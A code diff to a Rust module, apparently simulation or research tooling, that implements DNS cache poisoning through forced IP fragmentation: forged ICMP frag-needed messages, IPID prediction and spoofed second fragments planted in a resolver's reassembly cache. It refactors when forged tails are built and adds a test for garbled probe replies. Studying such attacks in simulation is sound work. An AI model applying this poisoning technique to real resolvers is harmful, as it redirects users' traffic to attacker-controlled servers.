@@ -7,7 +7,8 @@
 //!    before the PMTU cache expires).
 //! 2. **Probe**: periodic direct DNS queries to each nameserver — the
 //!    responses yield both the response byte layout (for forging) and the
-//!    IPID counter samples (for prediction).
+//!    IPID counter samples (for prediction). A reply is only checked and
+//!    kept; it is forged into a spoofed tail when a plant round uses it.
 //! 3. **Plant**: every 25 s (under the 30 s Linux reassembly timeout),
 //!    spoofed second fragments for a window of predicted IPIDs are placed
 //!    in the resolver's defragmentation cache, for every target NS.
@@ -20,14 +21,15 @@
 use netsim::fasthash::FastMap;
 use std::net::Ipv4Addr;
 
+use bytes::Bytes;
 use dns::auth::DNS_PORT;
-use dns::message::Message;
+use dns::message::{Message, MessageView};
 use dns::name::Name;
 use dns::record::RecordType;
 use netsim::prelude::*;
 use rand::RngExt;
 
-use crate::forge::{forge_tail, ForgedTail};
+use crate::forge::forge_tail;
 use crate::icmp_force::{forge_frag_needed, FORCED_MTU};
 use crate::ipid::IpidPredictor;
 
@@ -125,7 +127,8 @@ pub struct PoisonStats {
 #[derive(Debug, Default)]
 struct TargetState {
     predictor: IpidPredictor,
-    tail: Option<ForgedTail>,
+    /// The latest accepted probe reply (DNS payload).
+    reply: Option<Bytes>,
 }
 
 const PROBE_PORT: u16 = 5399;
@@ -250,14 +253,16 @@ impl PoisonPipeline {
         let resolver = self.config.resolver;
         let window = self.config.ipid_window;
         let horizon = ctx.now() + self.config.plant_interval;
+        let (mtu, attacker_ns) = (self.config.forced_mtu, self.config.attacker_ns);
         let mut to_send = Vec::new();
         for (&ns, state) in &mut self.targets {
-            let Some(tail) = &state.tail else { continue };
+            let Some(reply) = &state.reply else { continue };
             // Predict the counter over the planting horizon.
             let ipids = state.predictor.predict_window(horizon, window);
             if ipids.is_empty() {
                 continue;
             }
+            let Ok(tail) = forge_tail(reply, mtu, attacker_ns) else { continue };
             for pkt in tail.fragments(ns, resolver, &ipids) {
                 to_send.push(pkt);
             }
@@ -310,27 +315,30 @@ impl PoisonPipeline {
         }
     }
 
+    /// Keeps a nameserver's reply to a pending probe. A reply that fails
+    /// the message checks leaves the probe pending and the previous reply
+    /// in place.
+    fn accept_probe_reply(&mut self, src: Ipv4Addr, payload: &Bytes) {
+        let Ok(msg) = MessageView::new(payload) else { return };
+        let header = msg.header();
+        if !header.qr || self.probe_pending.remove(&header.id).is_none() {
+            return;
+        }
+        if let Some(state) = self.targets.get_mut(&src) {
+            state.reply = Some(payload.clone());
+            if self.check_name.is_none() {
+                let forged = forge_tail(payload, self.config.forced_mtu, self.config.attacker_ns);
+                self.check_name = forged.ok().and_then(|t| t.poisoned_names.first().cloned());
+            }
+        }
+    }
+
     /// Datagram handling; returns `true` if the datagram belonged to the
     /// pipeline.
     pub fn handle_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) -> bool {
         match d.dst_port {
             PROBE_PORT => {
-                let Ok(msg) = Message::decode(&d.payload) else { return true };
-                if !msg.header.qr || self.probe_pending.remove(&msg.header.id).is_none() {
-                    return true;
-                }
-                if let Some(state) = self.targets.get_mut(&d.src) {
-                    // Re-forged per probe: every response carries a fresh
-                    // ID and answer sample, so there is nothing to memoise.
-                    state.tail =
-                        forge_tail(&d.payload, self.config.forced_mtu, self.config.attacker_ns)
-                            .ok();
-                    if let Some(tail) = &state.tail {
-                        if self.check_name.is_none() {
-                            self.check_name = tail.poisoned_names.first().cloned();
-                        }
-                    }
-                }
+                self.accept_probe_reply(d.src, &d.payload);
                 true
             }
             CONTROL_PORT => {
@@ -381,6 +389,51 @@ mod tests {
         assert!(config.is_malicious("66.66.1.2".parse().unwrap()));
         assert!(!config.is_malicious("66.67.1.2".parse().unwrap()));
         assert!(!config.is_malicious("192.0.2.1".parse().unwrap()));
+    }
+
+    /// A reply that fails the message checks changes nothing: the earlier
+    /// reply stays the one a plant round forges, and the probe it claims
+    /// to answer stays pending.
+    #[test]
+    fn garbled_probe_reply_keeps_the_earlier_reply() {
+        use dns::prelude::{pool_zone, AuthServer};
+        use rand::rngs::SmallRng;
+        use rand::SeedableRng;
+
+        let ns: Ipv4Addr = "198.51.100.1".parse().unwrap();
+        let config = PoisonConfig::closed_resolver(
+            "10.0.0.53".parse().unwrap(),
+            vec![ns],
+            "66.66.66.66".parse().unwrap(),
+        );
+        let mut pipeline = PoisonPipeline::new(config);
+        let servers = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
+        let mut server = AuthServer::new(vec![pool_zone(servers, 23, ns)]);
+        let mut reply = |txid: u16| {
+            let query = Message::query(txid, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
+            server.answer(&query, &mut SmallRng::seed_from_u64(u64::from(txid))).encode().unwrap()
+        };
+        let reply_of = |p: &PoisonPipeline| p.targets[&ns].reply.clone();
+
+        let first = reply(1);
+        pipeline.probe_pending.insert(1, ns);
+        pipeline.accept_probe_reply(ns, &first);
+        assert_eq!(reply_of(&pipeline), Some(first.clone()));
+        assert!(pipeline.probe_pending.is_empty());
+        assert!(pipeline.check_name.is_some());
+
+        let second = reply(2);
+        pipeline.probe_pending.insert(2, ns);
+        let mut self_pointer = second.to_vec();
+        self_pointer[12..14].copy_from_slice(&[0xC0, 12]);
+        for garbled in [second.slice(..second.len() - 1), Bytes::from(self_pointer)] {
+            pipeline.accept_probe_reply(ns, &garbled);
+            assert_eq!(reply_of(&pipeline), Some(first.clone()));
+            assert_eq!(pipeline.probe_pending.get(&2), Some(&ns));
+        }
+        pipeline.accept_probe_reply(ns, &second);
+        assert_eq!(reply_of(&pipeline), Some(second));
+        assert!(pipeline.probe_pending.is_empty());
     }
 
     #[test]
